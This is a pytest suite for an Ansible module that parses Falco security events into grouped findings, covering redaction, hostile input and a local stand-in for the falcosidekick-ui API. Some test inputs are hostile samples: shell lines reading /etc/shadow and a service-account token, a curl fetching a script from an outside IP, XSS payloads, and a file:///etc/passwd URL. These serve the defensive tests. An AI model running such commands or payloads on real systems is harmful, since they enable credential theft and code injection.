"""Falco events -> grouped findings: grouping, time window, priorities, messy logs, redaction, hostile input, and the
falcosidekick-ui API path against a small local STAND-IN server (127.0.0.1 only; it is not falcosidekick-ui)."""

from __future__ import annotations

import base64
import gzip
import json
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ansible_collections.kubesec.cluster.plugins.module_utils import _falco_events as fe
from tests.conftest import ROOT, assert_valid_findings

DEMO = ROOT / "inventories" / "demo" / "exports" / "falco"
NOW = "2026-03-15T00:00:00Z"


def event(
    rule="Terminal shell in container",
    priority="Notice",
    time="2026-03-14T10:00:00.123456789Z",
    hostname="worker-1",
    ns="shop",
    pod="api-7d9f",
    container="api",
    container_id="9b1e77c0a2d4",
    **fields,
):
    output_fields = {
        "container.id": container_id,
        "container.name": container,
        "k8s.ns.name": ns,
        "k8s.pod.name": pod,
        "proc.cmdline": "sh",
        "user.name": "root",
    }
    output_fields.update({k.replace("__", "."): v for k, v in fields.items()})
    output_fields = {k: v for k, v in output_fields.items() if v is not None}
    return {
        "hostname": hostname,
        "output": f"{time}: {priority} {rule} | command={output_fields.get('proc.cmdline')}",
        "output_fields": output_fields,
        "priority": priority,
        "rule": rule,
        "source": "syscall",
        "tags": ["container", "shell"],
        "time": time,
    }


def lines(*events):
    return "".join(json.dumps(e) + "\n" for e in events)


def collect_text(text, **kwargs):
    kwargs.setdefault("since", "0")
    return fe.collect(content=text, cluster="c1", now=NOW, **kwargs)


# ------------------------------------------------------------------------------------------------ parsing tables
@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("2024-01-01T12:00:00.123456789Z", 1704110400123456789),
        ("2024-01-01T12:00:00Z", 1704110400000000000),
        ("2024-01-01T12:00:00.5Z", 1704110400500000000),
        ("2024-01-01T13:00:00.000000001+01:00", 1704110400000000001),
        ("2024-01-01T12:00:00.123456789+0000", 1704110400123456789),
        ("2024-01-01T12:00:00", 1704110400000000000),  # no zone: Falco writes UTC
        ("2024-01-01", 1704067200000000000),
        (1704110400123456789, 1704110400123456789),  # evt.time, nanoseconds
        (1704110400, 1704110400000000000),
    ],
)
def test_parse_time(text, expected):
    assert fe.parse_time(text) == expected


@pytest.mark.parametrize(
    "text",
    ["", None, True, 1.5, "yesterday", "2024-02-30T00:00:00Z", "2024-13-01T00:00:00Z", "2024-01-01T25:00:00Z", "12:00:00", "2024-01-01T12:00:00Zjunk", [], {}],
)
def test_parse_time_refuses(text):
    with pytest.raises(ValueError):
        fe.parse_time(text)


def test_format_time_round_trips_nanoseconds():
    assert fe.format_time(fe.parse_time("2024-01-01T12:00:00.000000001Z")) == "2024-01-01T12:00:00.000000001Z"


@pytest.mark.parametrize(
    ("text", "seconds"),
    [
        ("24h", 86400),
        ("30m", 1800),
        ("7d", 604800),
        ("1h30m", 5400),
        ("90s", 90),
        ("2w", 1209600),
        ("3600", 3600),
        (60, 60),
        ("0", 0),
        ("1 hour", 3600),
        ("15min", 900),
    ],
)
def test_parse_duration(text, seconds):
    assert fe.parse_duration(text) == seconds


@pytest.mark.parametrize("text", ["", "abc", "24x", "-5", "h", True, -1, "1h junk"])
def test_parse_duration_refuses(text):
    with pytest.raises(ValueError):
        fe.parse_duration(text)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Warning", "warning"),
        ("WARNING", "warning"),
        ("Info", "informational"),
        ("informational", "informational"),
        ("emergency", "emergency"),
        (" Notice ", "notice"),
        ("bogus", None),
        (3, None),
        (None, None),
    ],
)
def test_parse_priority(text, expected):
    assert fe.parse_priority(text) == expected


@pytest.mark.parametrize(
    ("priority", "severity", "status"),
    [
        ("Emergency", "critical", "fail"),
        ("Alert", "critical", "fail"),
        ("Critical", "critical", "fail"),
        ("Error", "high", "fail"),
        ("Warning", "medium", "fail"),
        ("Notice", "low", "info"),
        ("Informational", "info", "info"),
        ("Debug", "info", "info"),
    ],
)
def test_priority_maps_to_severity_and_status(priority, severity, status):
    result = collect_text(lines(event(priority=priority)))
    (finding,) = result["findings"]
    assert (finding["severity"], finding["status"]) == (severity, status)
    assert finding["evidence"]["priority"] == priority
    assert_valid_findings(result["findings"])


# ------------------------------------------------------------------------------------------------------ grouping
def test_repeats_group_into_one_finding_with_count_and_first_last_seen():
    text = lines(event(time="2026-03-14T12:00:00Z"), event(time="2026-03-14T09:00:00.5Z"), event(time="2026-03-14T18:30:00Z"))
    result = collect_text(text)
    (finding,) = result["findings"]
    assert finding["id"] == "falco:Terminal shell in container"
    assert finding["source"] == "falco"
    assert finding["count"] == 3
    assert finding["first_seen"] == "2026-03-14T09:00:00.500000000Z"
    assert finding["last_seen"] == "2026-03-14T18:30:00.000000000Z"
    assert (finding["node"], finding["namespace"]) == ("worker-1", "shop")
    assert finding["resource"] == {"kind": "Pod", "name": "api-7d9f", "namespace": "shop", "container": "api"}
    assert finding["evidence"]["container_id"] == "9b1e77c0a2d4"
    assert finding["cluster"] == "c1"
    assert result["groups"][0]["count"] == 3
    assert_valid_findings(result["findings"])


def test_groups_split_by_rule_host_pod_and_container():
    text = lines(
        event(),
        event(),  # same group
        event(hostname="worker-2"),  # other host
        event(pod="api-other"),  # other pod
        event(container="sidecar"),  # other container of the pod
        event(rule="Read sensitive file untrusted", priority="Warning"),  # other rule
        event(ns=None, pod=None, container="nginx", container_id="aaaaaaaaaaaa"),  # plain container outside k8s
        event(ns=None, pod=None, container="nginx", container_id="bbbbbbbbbbbb"),  # another container id
        event(ns=None, pod=None, container="host", container_id="host"),  # the host itself
        event(ns=None, pod=None, container=None, container_id=None),  # no container fields: the host
    )
    result = collect_text(text)
    counts = sorted(g["count"] for g in result["groups"])
    assert counts == [1, 1, 1, 1, 1, 1, 2, 2]
    kinds = sorted(f["resource"]["kind"] for f in result["findings"])
    assert kinds == ["Container", "Container", "Node", "Pod", "Pod", "Pod", "Pod", "Pod"]
    assert len({f["fingerprint"] for f in result["findings"]}) == len(result["findings"])
    assert result["summary"]["matched"] == 10
    assert_valid_findings(result["findings"])


def test_most_severe_priority_of_a_group_wins_and_findings_are_ordered_by_it():
    text = lines(event(priority="Notice"), event(priority="Critical"), event(rule="B", priority="Warning"))
    result = collect_text(text)
    assert [f["severity"] for f in result["findings"]] == ["critical", "medium"]
    assert result["findings"][0]["evidence"]["priority"] == "Critical"


# --------------------------------------------------------------------------------------------------- time window
def test_default_window_is_the_last_24_hours():
    text = lines(event(time="2026-03-14T00:00:00Z"), event(time="2026-03-13T23:59:59.999999999Z"), event(time="2026-03-14T23:00:00Z"))
    result = fe.collect(content=text, now=NOW)
    assert result["summary"]["matched"] == 2
    assert result["summary"]["skipped"] == {"out_of_window": 1}
    assert result["window"]["from"] == "2026-03-14T00:00:00.000000000Z"
    assert result["window"]["to"] is None


@pytest.mark.parametrize(
    ("options", "matched"),
    [
        ({"since": "1h"}, 1),
        ({"since": "0"}, 4),
        ({"start": "2026-03-14T10:00:00Z", "end": "2026-03-14T12:00:00Z"}, 2),  # both ends inclusive
        ({"start": "2026-03-14"}, 3),
        ({"end": "2026-03-14T10:00:00Z"}, 2),
        ({"since": "2h", "end": "2026-03-14T12:00:00Z"}, 2),  # counted back from `to`
    ],
)
def test_window_options(options, matched):
    text = lines(*(event(time=t) for t in ("2026-03-13T10:00:00Z", "2026-03-14T10:00:00Z", "2026-03-14T12:00:00Z", "2026-03-14T23:30:00Z")))
    result = fe.collect(content=text, now=NOW, **options)
    assert result["summary"]["matched"] == matched


@pytest.mark.parametrize(
    ("options", "message"),
    [
        ({"since": "1h", "start": "2026-03-14"}, "either since or from"),
        ({"start": "2026-03-15", "end": "2026-03-14"}, "is after to"),
        ({"since": "soon"}, "since:"),
        ({"start": "whenever"}, "from:"),
        ({"now": "later"}, "now:"),
    ],
)
def test_bad_window_options_name_the_option(options, message):
    with pytest.raises(fe.FalcoInputError, match=message):
        fe.collect(content="", **options)


def test_minimum_priority_keeps_it_and_above():
    text = lines(*(event(rule=p, priority=p) for p in ("Emergency", "Error", "Warning", "Notice", "Info", "Debug")))
    result = collect_text(text, min_priority="warning")
    assert sorted(g["priority"] for g in result["groups"]) == ["Emergency", "Error", "Warning"]
    assert result["summary"]["skipped"]["below_priority"] == 3
    with pytest.raises(fe.FalcoInputError, match="min_priority"):
        collect_text(text, min_priority="loud")


# ------------------------------------------------------------------------------------------------ messy inputs
def test_kubectl_logs_text_lines_are_counted_and_skipped_and_decorations_understood():
    good = json.dumps(event())
    text = (
        "\n".join(
            [
                "Sat Mar 14 06:00:01 2026: Falco version: 0.41.3 (x86_64)",
                "Sat Mar 14 06:00:01 2026: Loading rules from:",
                "",
                good,
                "2026-03-14T10:00:00.123456789Z " + good,  # kubectl logs --timestamps
                "[pod/falco-x2v9k/falco] " + good,  # kubectl logs --prefix
                "[pod/falco-x2v9k/falco] 2026-03-14T10:00:00.1Z " + good,  # both
                "Events detected: 3",
            ]
        )
        + "\n"
    )
    result = collect_text(text)
    assert result["summary"]["matched"] == 4
    assert result["summary"]["skipped"] == {"non_json": 3}
    assert result["findings"][0]["count"] == 4
    assert not result["warnings"]  # text lines are normal in pod logs


def test_truncated_last_line_and_malformed_lines_are_counted_never_fatal():
    good = json.dumps(event())
    text = good + "\n" + '{"rule": "x", "priority": "Warning", "time": "2026-03-14T1' + "\n" + good + "\n" + good[:57]
    result = collect_text(text)
    assert result["summary"]["matched"] == 2
    assert result["summary"]["skipped"] == {"malformed": 1, "truncated": 1}
    assert any("cut off" in w for w in result["warnings"])
    assert any("line 4" in e for s in result["skips"] if s["code"] == "truncated" for e in s["examples"])


@pytest.mark.parametrize(
    ("mutation", "reason"),
    [
        ({"time": "not a time"}, "bad_time"),
        ({"time": None}, "bad_time"),
        ({"time": "2026-02-30T00:00:00Z"}, "bad_time"),
        ({"priority": "Loud"}, "bad_priority"),
        ({"priority": None}, "bad_priority"),
        ({"rule": None}, "not_event"),
        ({"rule": ""}, "not_event"),
        ({"rule": "Falco internal: metrics snapshot"}, "internal"),
    ],
)
def test_bad_events_are_counted_by_reason(mutation, reason):
    bad = event()
    bad.update(mutation)
    result = collect_text(lines(event(), bad))
    assert result["summary"]["matched"] == 1
    assert result["summary"]["skipped"] == {reason: 1}


def test_evt_time_is_used_when_time_is_missing():
    one = event()
    del one["time"]
    one["output_fields"]["evt.time"] = fe.parse_time("2026-03-14T08:00:00.000000042Z")
    result = collect_text(lines(one))
    assert result["findings"][0]["first_seen"] == "2026-03-14T08:00:00.000000042Z"


def test_json_values_that_are_not_events():
    text = '[1, 2]\n{"hello": "world"}\n"text"\n42\n'
    result = collect_text(text)
    assert result["summary"]["events"] == 0
    assert result["summary"]["skipped"]["not_event"] == 3  # 1 and 2 from the array, and the object
    assert result["summary"]["skipped"]["non_json"] == 2  # a JSON string and a number are no events either


@pytest.mark.parametrize("shape", ["array", "ui-list", "ui-map", "pretty-ui"])
def test_whole_documents_json_array_and_saved_ui_answers(tmp_path, shape):
    events = [event(time="2026-03-14T10:00:00Z"), event(time="2026-03-14T11:00:00Z")]
    if shape == "array":
        text = json.dumps(events)
    elif shape == "ui-list":
        text = json.dumps({"results": events, "statistics": {"all": 2, "returned": 2}})
    elif shape == "ui-map":
        text = json.dumps({"results": {"1": events[1], "0": events[0]}, "statistics": {"all": 2}})
    else:
        text = json.dumps({"results": events, "statistics": {"all": 2}}, indent=2)
    path = tmp_path / "saved.json"
    path.write_text(text)
    for result in (collect_text(text), fe.collect(paths=[str(path)], now=NOW, since="0")):
        assert result["summary"]["matched"] == 2
        assert result["findings"][0]["count"] == 2


def test_directories_gzip_and_a_cut_off_gzip_file(tmp_path):
    (tmp_path / "logs" / ".hidden").mkdir(parents=True)
    (tmp_path / "logs" / "a.log").write_text(lines(event(), event()))
    with gzip.open(tmp_path / "logs" / "b.jsonl.gz", "wt") as handle:
        handle.write(lines(event(), event(hostname="worker-2")))
    (tmp_path / "logs" / ".hidden" / "c.log").write_text(lines(event()))  # hidden: not read
    (tmp_path / "logs" / "notes.md").write_text("not an event file")  # wrong suffix: not read
    result = fe.collect(paths=[str(tmp_path / "logs")], now=NOW, since="0")
    assert result["summary"]["matched"] == 4
    assert [Path(p).name for p in result["sources"]] == ["a.log", "b.jsonl.gz"]
    data = gzip.compress(lines(*[event()] * 50).encode())
    (tmp_path / "cut.log.gz").write_bytes(data[: len(data) // 2])
    cut = fe.collect(paths=[str(tmp_path / "cut.log.gz")], now=NOW, since="0")
    assert cut["summary"]["skipped"].get("truncated") == 1
    assert any("cut off" in w for w in cut["warnings"])


def test_missing_paths_and_empty_directories_name_the_path(tmp_path):
    with pytest.raises(fe.FalcoInputError, match="does not exist"):
        fe.collect(paths=[str(tmp_path / "nope")])
    (tmp_path / "empty").mkdir()
    with pytest.raises(fe.FalcoInputError, match="no Falco event files"):
        fe.collect(paths=[str(tmp_path / "empty")])


# ------------------------------------------------------------------------------------------------------- secrets
SECRET = "s3cr3tV4lue-zq81"
JWT = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJzeXN0ZW06c2EifQ.c2lnbmF0dXJlLXRlc3Q"


@pytest.mark.parametrize(
    "cmdline",
    [
        f"kubectl --token {SECRET} get pods",
        f"kubectl --token={SECRET} get pods",
        f"mysql -u root --password {SECRET}",
        f"mysql -u root --password={SECRET} db",
        f"psql postgres://app:{SECRET}@db:5432/app",
        f"env PGPASSWORD={SECRET} psql",
        f"sh -c 'export DB_PASSWORD=\"{SECRET}\"; run'",
        f"curl -H 'Authorization: Bearer {SECRET}' https://api",
        f'curl -H "Authorization: Basic {SECRET}" https://api',
        f"app --client-secret {SECRET}",
        f"app --api-key={SECRET}",
        f"app secret_key: {SECRET}",
        f"kubectl get pods --token {JWT}",
        f"curl https://api?token={SECRET}",
        f'echo {{"password":"{SECRET}"}}',
    ],
)
def test_secret_values_never_reach_a_finding(cmdline):
    secret_event = event(proc__cmdline=cmdline, proc__env=f"HOME=/root API_TOKEN={SECRET}", **{"proc__aenv[1]": f"X={SECRET}", "k8s.secret.value": SECRET})
    secret_event["output"] = f"10:00:00: Notice shell | cmdline={cmdline}"
    result = collect_text(lines(secret_event))
    dumped = json.dumps(result, ensure_ascii=False)
    assert SECRET not in dumped and JWT not in dumped
    evidence = result["findings"][0]["evidence"]
    assert "<redacted>" in evidence["output"]
    assert "<redacted>" in evidence["output_fields"]["proc.cmdline"]
    assert "proc.env" in evidence["fields_withheld"] and "proc.env" not in evidence["output_fields"]
    assert result["summary"]["redactions"] >= 2


@pytest.mark.parametrize(
    "text", ["cat /etc/shadow", "ls /var/run/secrets/kubernetes.io/serviceaccount/token", "curl http://203.0.113.45:4444/x.sh", "tokenizer --mode fast"]
)
def test_ordinary_command_lines_are_kept(text):
    assert fe.redact(text) == (text, 0)


@settings(max_examples=150, suppress_health_check=[HealthCheck.too_slow])
@given(
    secret=st.text(alphabet="abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=_.~-", min_size=8, max_size=40),
    flag=st.sampled_from(
        ["--token ", "--token=", "--password ", "--password=", "password=", "PASSWORD=", "db_password: ", "Bearer ", "--secret=", "api_key=", "--auth-token "]
    ),
    before=st.sampled_from(["", "kubectl get pods ", "sh -c '"]),
    after=st.sampled_from(["", " get secrets", "'", " && echo done"]),
)
def test_redaction_property(secret, flag, before, after):
    text, count = fe.redact(before + flag + secret + after)
    assert secret not in text
    assert count >= 1


# -------------------------------------------------------------------------------------------------------- hostile
def test_hostile_strings_are_kept_as_text_limited_and_valid():
    nasty = "<script>alert(1)</script>\x00\x1b[31m" + "A" * 20000
    one = event(rule="<img src=x onerror=alert(1)> " + "R" * 2000, hostname={"not": "a string"}, proc__cmdline=nasty)
    one["output"] = nasty
    one["tags"] = ["<b>", 5, None, "x" * 500] * 20
    one["output_fields"]["deep"] = json.loads("[" * 200 + "]" * 200)
    one["output_fields"]["nan"] = float("nan")
    one["output_fields"].update({f"field{i}": i for i in range(200)})
    result = collect_text(lines(one))
    (finding,) = result["findings"]
    assert_valid_findings([finding])
    assert "<script>" in finding["evidence"]["output"]  # escaping is the report's job
    assert len(finding["evidence"]["output"]) < 4200
    assert len(finding["id"]) < 600
    assert len(finding["evidence"]["output_fields"]) <= fe.MAX_FIELDS
    assert len(finding["tags"]) <= fe.MAX_TAGS
    json.loads(json.dumps(finding, allow_nan=False))  # no NaN sneaks into the JSON


def test_absurd_nesting_is_a_malformed_line_not_a_crash():
    text = '{"rule": "x", "priority": "Warning", "output_fields": ' + "[" * 100000 + "]" * 100000 + "}\n" + lines(event())
    result = collect_text(text)
    assert result["summary"]["matched"] == 1
    assert result["summary"]["skipped"] == {"malformed": 1}


_EVENT_VALUES = st.one_of(
    st.none(), st.text(max_size=40), st.integers(), st.lists(st.text(max_size=5), max_size=3), st.sampled_from(["Warning", "Critical", "2026-03-14T10:00:00Z"])
)
_EVENT_KEYS = st.sampled_from(["rule", "priority", "time", "hostname", "output", "output_fields", "tags", "source"])
_LINES = st.lists(st.one_of(st.text(max_size=300), st.builds(json.dumps, st.dictionaries(_EVENT_KEYS, _EVENT_VALUES))), max_size=20)


@settings(max_examples=200, suppress_health_check=[HealthCheck.too_slow])
@given(_LINES)
def test_any_input_gives_valid_findings_or_counts(raw_lines):
    result = collect_text("\n".join(raw_lines))
    assert_valid_findings(result["findings"])
    total_skipped = sum(result["summary"]["skipped"].values())
    assert result["summary"]["matched"] == sum(f["count"] for f in result["findings"])
    assert total_skipped + result["summary"]["matched"] >= result["summary"]["events"]


# ------------------------------------------------------------------------------------------------ demo export
def test_demo_export_counts():
    result = fe.collect(paths=[str(DEMO)], cluster="demo", min_priority="informational", start="2026-03-14T00:00:00Z", end="2026-03-15T00:00:00Z", now=NOW)
    assert_valid_findings(result["findings"])
    summary = result["summary"]
    assert (summary["events"], summary["matched"], summary["groups"]) == (34, 30, 11)
    assert summary["skipped"] == {"non_json": 36, "out_of_window": 2, "internal": 2}
    assert summary["by_status"] == {"fail": 4, "info": 7}
    by_rule_host = {(g["rule"], g["hostname"], g["pod"]): g["count"] for g in result["groups"]}
    assert by_rule_host[("Unexpected outbound connection destination", "demo-worker-1", "legacy-api-5b9c7d6f4d-x7k2p")] == 8
    assert by_rule_host[("Terminal shell in container", "demo-worker-1", "debug-shell")] == 6
    assert "eyJhbGci" not in json.dumps(result)


# ------------------------------------------------------------------------- falcosidekick-ui: local STAND-IN server
class UiStandIn:
    """A STAND-IN for falcosidekick-ui's search API on 127.0.0.1 (not the real UI): GET /api/v1/events/search with
    basic auth, limit/page paging, and since/priority filters the way the UI's Redis query applies them."""

    def __init__(self, events, user="admin:s3cret-pw", shape="list", status=None, body=None):
        self.events = sorted(events, key=lambda e: e["time"], reverse=True)  # the UI sorts newest first
        self.user, self.shape, self.status, self.body = user, shape, status, body
        self.requests = []
        stand_in = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                split = urlsplit(self.path)
                query = {k: v[-1] for k, v in parse_qs(split.query).items()}
                stand_in.requests.append({"path": split.path, "query": query, "auth": self.headers.get("Authorization")})
                code, payload = stand_in.answer(split.path, query, self.headers.get("Authorization"))
                data = payload if isinstance(payload, bytes) else json.dumps(payload).encode()
                self.send_response(code)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    @property
    def url(self):
        return "http://127.0.0.1:%d" % self.server.server_address[1]

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *exc):
        self.server.shutdown()
        self.server.server_close()

    def answer(self, path, query, auth):
        if self.user and auth != "Basic " + base64.b64encode(self.user.encode()).decode():
            return 401, {"message": "Unauthorized"}
        if path != "/api/v1/events/search":
            return 404, b"404 page not found"
        if self.status:
            return self.status, self.body or {"message": "boom"}
        if self.body is not None:
            return 200, self.body
        events = self.events
        if query.get("priority"):
            wanted = {p.lower() for p in query["priority"].split(",")}
            events = [e for e in events if e["priority"].lower() in wanted]
        limit = int(query.get("limit") or 100)
        page = max(int(query.get("page") or 1) - 1, 0)
        chunk = events[page * limit : (page + 1) * limit]
        results = chunk if self.shape == "list" else {str(i): e for i, e in enumerate(chunk)}
        return 200, {"results": results, "statistics": {"all": len(events), "returned": len(chunk)}}


def ui_events(n=23):
    return [event(time="2026-03-14T%02d:%02d:00Z" % (i // 60, i % 60), priority=("Warning", "Notice", "Debug")[i % 3], pod=f"pod-{i % 4}") for i in range(n)]


def no_proxy_fetch(url, headers):
    return fe._default_fetch(url, headers, timeout=5, use_proxy=False)


@pytest.mark.parametrize("shape", ["list", "map"])
def test_ui_pages_through_every_event(shape):
    with UiStandIn(ui_events(), shape=shape) as ui:
        result = fe.collect(url=ui.url, user="admin:s3cret-pw", now=NOW, since="48h", fetch=no_proxy_fetch, page_size=5)
    assert result["summary"]["matched"] == 23
    assert len(ui.requests) == 5
    assert [r["query"]["page"] for r in ui.requests] == ["1", "2", "3", "4", "5"]
    assert all(r["query"]["limit"] == "5" and r["query"]["since"] == "172800s" for r in ui.requests)
    assert "priority" not in ui.requests[0]["query"]  # debug keeps everything: no filter sent
    assert_valid_findings(result["findings"])
    assert "s3cret-pw" not in json.dumps(result)
    assert result["sources"] == [ui.url + "/api/v1/events/search (5 pages, 23 events of 23)"]


def test_ui_gets_the_priority_filter_and_results_are_still_checked_here():
    with UiStandIn(ui_events()) as ui:
        result = fe.collect(
            url=ui.url + "/api/v1/", user="admin:s3cret-pw", now=NOW, start="2026-03-14T00:05:00Z", min_priority="warning", fetch=no_proxy_fetch
        )
    assert ui.requests[0]["path"] == "/api/v1/events/search"
    assert ui.requests[0]["query"]["priority"] == "emergency,alert,critical,error,warning"
    assert ui.requests[0]["query"]["since"] == "86100s"
    assert result["summary"]["matched"] == 6  # warnings at minutes 6, 9, ..., 21 (the stand-in ignores since)
    assert result["summary"]["skipped"] == {"out_of_window": 2}


def test_ui_wrong_credentials_say_so_without_the_password():
    with UiStandIn(ui_events(), user="admin:right") as ui, pytest.raises(fe.FalcoApiError) as info:
        fe.collect(url=ui.url, user="admin:wrong-pw", now=NOW, fetch=no_proxy_fetch)
    assert "401" in str(info.value) and "webui.user" in str(info.value)
    assert "wrong-pw" not in str(info.value)
    with pytest.raises(fe.FalcoInputError, match="login:password"):
        fe.collect(url="http://127.0.0.1:9", user="no-colon", fetch=no_proxy_fetch)


@pytest.mark.parametrize(
    ("status", "body", "message"),
    [
        (500, {"message": "redis down"}, "HTTP 500"),
        (None, b"<html>not json</html>", "not JSON"),
        (None, [1, 2], "expected an object"),
        (None, {"results": "nope"}, "expected a list"),
    ],
)
def test_ui_errors_name_the_address(status, body, message):
    with UiStandIn([], status=status, body=body) as ui, pytest.raises(fe.FalcoApiError, match=message) as info:
        fe.collect(url=ui.url, user="admin:s3cret-pw", now=NOW, fetch=no_proxy_fetch)
    assert ui.url in str(info.value)


def test_ui_not_found_and_unreachable_and_bad_urls():
    with UiStandIn([]) as ui:
        url = ui.url
        with pytest.raises(fe.FalcoApiError, match="404"):
            fe.collect(url=url + "/prefix", user="admin:s3cret-pw", now=NOW, fetch=no_proxy_fetch)
    with pytest.raises(fe.FalcoApiError, match="cannot reach"):  # the stand-in is gone: connection refused
        fe.collect(url=url, now=NOW, fetch=no_proxy_fetch)
    with pytest.raises(fe.FalcoInputError, match="http"):
        fe.collect(url="file:///etc/passwd", now=NOW, fetch=no_proxy_fetch)


def test_ui_max_pages_stops_with_a_warning():
    with UiStandIn(ui_events()) as ui:
        result = fe.collect(url=ui.url, user="admin:s3cret-pw", now=NOW, since="48h", fetch=no_proxy_fetch, page_size=5, max_pages=2)
    assert result["summary"]["matched"] == 10
    assert any("max_pages=2" in w for w in result["warnings"])


def test_ui_credentials_over_plain_http_to_another_host_are_warned_about():
    collector = fe.EventCollector(start_ns=None)

    def fetch(url, headers):
        return 200, b'{"results": [], "statistics": {"all": 0}}'

    fe.collect_from_ui(collector, "http://falco-ui.example:2802", user="a:b", fetch=fetch)
    assert any("plain HTTP" in w for w in collector.warnings)


def test_module_reads_the_stand_in_through_ansible(tmp_path):
    """The module itself (open_url, no_log user) against the stand-in, through the real ansible CLI."""
    import subprocess

    from tests.conftest import VENV_BIN, ansible_env

    with UiStandIn(ui_events()) as ui:
        args = json.dumps(
            {
                "url": ui.url,
                "user": "admin:s3cret-pw",
                "use_proxy": False,
                "now": NOW,
                "since": "48h",
                "min_priority": "notice",
                "page_size": 10,
                "cluster": "c1",
            }
        )
        proc = subprocess.run(
            [str(VENV_BIN / "ansible"), "localhost", "-m", "kubesec.cluster.falco_events", "-a", args, "-o"],
            env=ansible_env(ANSIBLE_LOAD_CALLBACK_PLUGINS="1"),
            capture_output=True,
            text=True,
            timeout=120,
        )
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "s3cret-pw" not in proc.stdout
    data = json.loads(proc.stdout.split("=>", 1)[1])
    assert data["changed"] is False
    assert data["summary"]["matched"] == 16  # warnings and notices, 2 pages of 10
    assert len(ui.requests) == 2
    assert_valid_findings(data["findings"])


# ------------------------------------------------------------------------------------------- issue 15: bounds, bad text
def test_one_lone_surrogate_record_keeps_the_good_ones_and_names_the_bad_one(tmp_path):
    good = event()
    bad_text = json.dumps(event(pod="evil-1", proc__cmdline="sh -c x")).replace("sh -c x", "sh \\ud800 x")
    assert json.loads(bad_text)  # valid JSON text, not valid Unicode
    path = tmp_path / "falco.jsonl"
    path.write_text(lines(good) + bad_text + "\n" + lines(event(pod="api-2")))
    result = fe.collect(paths=[str(path)], since="30d", now=NOW)
    assert result["summary"]["matched"] == 2 and result["summary"]["skipped"] == {"bad_text": 1}
    assert any(f"{path} line 2" in warning for warning in result["warnings"])
    json.dumps(result, ensure_ascii=False).encode("utf-8")  # what Ansible does with the module result


@pytest.mark.parametrize("size", [10_000, 100_000])
def test_falco_output_redaction_is_clipped_first_and_linear(size):
    """Before: 10 KB of '-' in an output took 30 s (100 KB did not finish in 5 min): redaction ran on the whole
    text before clipping, with backtracking patterns."""
    for unit in ("-", "-a", "password"):
        one = event()
        one["output"] = (unit * size)[:size] + " --password hunter22"
        one["output_fields"]["proc.cmdline"] = (unit * size)[:size]
        started = time.perf_counter()
        result = collect_text(lines(one))
        assert time.perf_counter() - started < 2.0, unit
        output = result["findings"][0]["evidence"]["output"]
        assert output.endswith("more characters]") and len(output) < fe.MAX_TEXT + 40
